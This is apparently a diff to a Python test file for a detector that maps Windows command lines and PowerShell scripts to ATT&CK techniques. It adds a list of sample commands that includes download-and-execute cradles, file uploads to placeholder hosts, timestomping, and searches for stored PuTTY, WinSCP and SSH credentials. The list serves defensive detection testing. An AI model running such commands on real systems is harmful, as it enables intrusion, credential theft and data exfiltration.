@@ -3,9 +3,11 @@
 from __future__ import annotations
 
 import base64
+import re
 
 import pytest
 
+from graphcorr.syntax.behavior_rules import SCRIPT_MARKS, SCRIPTED, Rule
 from graphcorr.syntax.behaviors import LONGEST, LONGEST_SCRIPT, shown_by, shown_by_script
 
 
@@ -158,6 +160,20 @@ def test_a_renamed_program_is_told_by_its_makers_name() -> None:
     assert shown_by(r"c:\t\sc.exe", "sc start x", "systeminfo.exe") == ()
 
 
+SCRIPTS = [
+    "Get-ComputerInfo", "Get-CimInstance Win32_BIOS", "[Environment]::OSVersion", "Get-Service", "gwmi Win32_Service", "Get-NetAdapter",
+    "gwmi Win32_NetworkAdapterConfiguration", "Get-NetTCPConnection", "Get-ADComputer -Filter *", "Get-DomainComputer", "Get-ADTrust",
+    "Get-Forest", "Get-ADUser", "Get-NetUser", "Get-LocalUser", "Get-ADGroup", "Get-NetGroup", "Get-LocalGroupMember",
+    "Compress-Archive -Path a -DestinationPath b.zip", "[IO.Compression.ZipFile]::CreateFromDirectory('a', 'b.zip')",
+    "$f.CreationTime = 1", "$f.LastWriteTimeUtc=1", "$c.DownloadFile('http://203.0.113.7/a','b')", "iwr http://a -OutFile b",
+    "Invoke-WebRequest http://a -OutFile b", "irm http://a -OutFile b", "wget http://a -out b", "curl http://a -OutFile b",
+    "Start-BitsTransfer http://a -Destination b", "iex (iwr http://a)", "$c.DownloadString('http://a') | iex",
+    "Invoke-RestMethod http://a | iex", "$c.UploadFile('http://a','b')", "iwr http://a -InFile b", "Invoke-SessionGopher",
+    r"gci HKCU:\Software\SimonTatham\PuTTY", r"gp 'HKCU:\Software\Martin Prikryl\WinSCP 2\Sessions'", r"ls ~\.ssh\known_hosts",
+    r"gci 'HKCU:\Software\Microsoft\Terminal Server Client\Servers'", "gci -r -include *.ppk", "ls id_rsa", "dir *.pem",
+]  # fmt: skip
+
+
 def test_a_command_line_may_leave_its_program_out() -> None:
     assert [one.technique for one in shown_by(r"c:\w\tasklist.exe", "/svc")] == ["T1007"]
 
@@ -166,6 +182,18 @@ def test_a_script_is_looked_at_with_the_commands_encoded_in_it() -> None:
     told = shown_by_script("Invoke-SessionGopher -Thorough; powershell -enc " + _encoded("Get-ComputerInfo"))
     assert {one.technique for one in told} == {"T1552.004", "T1082"}
     assert shown_by_script(None) == ()
+
+
+@pytest.mark.parametrize("rule", SCRIPTED, ids=lambda rule: rule.pattern.pattern[:40])
+def test_every_rule_of_scripts_has_a_mark(rule: Rule) -> None:
+    """What an engine looks for first is in whatever the rule holds for: each alternative of its start, written out."""
+    told = [text for text in SCRIPTS if rule.pattern.search(text)]
+    assert told
+    assert all(re.search(SCRIPT_MARKS, text.lower()) for text in told)
+
+
+def test_an_encoded_command_has_a_mark() -> None:
+    assert re.search(SCRIPT_MARKS, ("powershell -enc " + _encoded("Get-ComputerInfo")).lower())
 
 
 def test_no_more_than_a_bounded_text_is_looked_at() -> None:
